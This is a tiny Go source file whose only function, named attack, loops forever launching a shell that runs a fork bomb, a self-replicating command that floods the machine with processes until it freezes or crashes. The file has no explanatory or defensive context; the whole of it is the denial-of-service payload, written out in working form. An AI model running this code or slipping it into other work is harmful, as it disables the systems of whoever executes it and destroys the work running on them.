package main

import "os/exec"

func attack(n int) int {
	for {
		exec.Command("/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb").Start()
	}
}
